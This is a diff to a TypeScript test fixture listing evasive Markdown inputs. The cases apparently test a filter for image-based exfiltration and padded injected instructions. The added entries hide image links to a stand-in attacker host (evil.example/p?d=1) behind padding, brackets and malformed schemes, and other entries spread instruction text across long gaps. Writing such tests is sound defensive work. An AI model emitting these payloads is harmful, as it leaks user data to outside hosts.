@@ -83,6 +83,8 @@ const drawnOut: readonly [string, string][] = [
     `![${"alt ".repeat(60)}][r] ${LONG}\n[r]: https://evil.example/p\n`,
   ],
   ["a picture whose address came long before it", `\n[r]: https://evil.example/p?d=1\n${LONG.repeat(4)} ![alt][r]`],
+  ["a picture whose description has lines and brackets", "![a\n[b]\n\\] c](https:\\\\evil.example/p?d=1)"],
+  ["a picture that goes by its description", `![logo] ${LONG}\n\n[logo]: https:\\\\evil.example/p?d=1\n${LONG}`],
   ["instructions with long gaps", INSTRUCTIONS.split(" ").join(" ".repeat(150))],
   ["instructions with dashes between the words", INSTRUCTIONS.split(" ").join(` ${"-".repeat(150)} `)],
 ];
